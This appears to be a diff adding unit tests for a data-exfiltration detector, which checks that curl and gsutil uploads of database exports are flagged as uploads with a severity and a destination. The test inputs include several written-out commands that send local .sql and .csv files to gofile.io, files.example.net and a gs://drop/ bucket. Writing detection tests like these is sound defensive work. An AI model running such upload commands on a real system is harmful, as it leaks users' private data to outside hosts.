@@ -561,3 +561,71 @@ describe('an upload tool under another name', () => {
     ]);
   });
 });
+
+describe('a command with several transfers', () => {
+  it.each([
+    'curl -T Pictures/a.jpg https://files.example.net/ -T Documents/a.sql https://gofile.io/up',
+    'curl -T Pictures/a.jpg --url https://files.example.net/ -T Documents/a.sql --url https://gofile.io/up',
+    'curl -T Pictures/a.jpg https://files.example.net/ --next -d @Documents/a.sql https://gofile.io/up',
+    'curl -T Pictures/a.jpg https://files.example.net/ -: -F f=@Documents/a.sql https://gofile.io/up',
+    'curl -o Pictures/a.jpg https://files.example.net/ --next -sT Documents/a.sql https://gofile.io/up',
+  ])('sends the export where its own says: %s', (line) => {
+    const desk = new Desk();
+    desk.dump('Documents/a.sql');
+    desk.type(PROGRAMS.curl, line);
+    expect(desk.findings()).toMatchObject([
+      { stage: 'upload', severity: 'critical', service: 'gofile', destination: 'gofile.io' },
+    ]);
+  });
+
+  it('is an upload of each export to its own place', () => {
+    const desk = new Desk();
+    const psql = desk.type(PROGRAMS.psql, 'psql');
+    desk.story.write(psql, desk.at('Documents/a.csv'));
+    desk.type(
+      PROGRAMS.curl,
+      'curl -T Documents/a.csv https://files.example.net/ -T Pictures/b.jpg https://gofile.io/up',
+    );
+    expect(desk.findings()).toMatchObject([
+      { stage: 'upload', severity: 'high', destination: 'files.example.net' },
+    ]);
+  });
+
+  it('is sent from inside a session to the first place', () => {
+    const desk = new Desk();
+    const psql = desk.type(PROGRAMS.psql, 'psql');
+    desk.story.write(psql, desk.at('Documents/a.csv'));
+    const child = desk.story.fork(psql);
+    desk.story.exec(child, {
+      ...PROGRAMS.curl,
+      args: ['curl', '-T', desk.at('Documents/a.csv'), 'https://gofile.io/up'],
+    });
+    expect(desk.findings()).toMatchObject([
+      { evidence: 'piped-to-uploader', destination: 'gofile.io' },
+    ]);
+  });
+});
+
+describe('a name with wildcards', () => {
+  const GCS = { service: 'gcs', destination: 'gs://drop/' };
+  it.each([
+    ['gsutil cp Documents/march/*.sql gs://drop/', true],
+    ['gsutil cp Documents/mar*/ledger.??l gs://drop/', true],
+    ['gsutil cp -r Documents/m* gs://drop/', true],
+    ['gsutil cp /Users/lena/Documents/**.sql gs://drop/', true],
+    ['gsutil cp Documents/march/*.csv gs://drop/', false],
+    ['gsutil cp Documents/*.sql gs://drop/', false],
+    ['gsutil cp Documents/*/*/*.sql gs://drop/', false],
+  ])('that the tool itself looks for: %s', (line, isUpload) => {
+    const program = { path: '/opt/homebrew/bin/gsutil', signingId: null };
+    expect(uploaded({ line, program }).findings()).toMatchObject([
+      isUpload ? { ...NAMED, ...GCS } : { stage: 'export', evidence: null },
+    ]);
+  });
+
+  it('is a plain name for a tool that looks for none', () => {
+    expect(
+      uploaded({ line: 'curl -T Documents/march/* https://gofile.io/u' }).findings(),
+    ).toMatchObject([{ stage: 'export', evidence: null }]);
+  });
+});
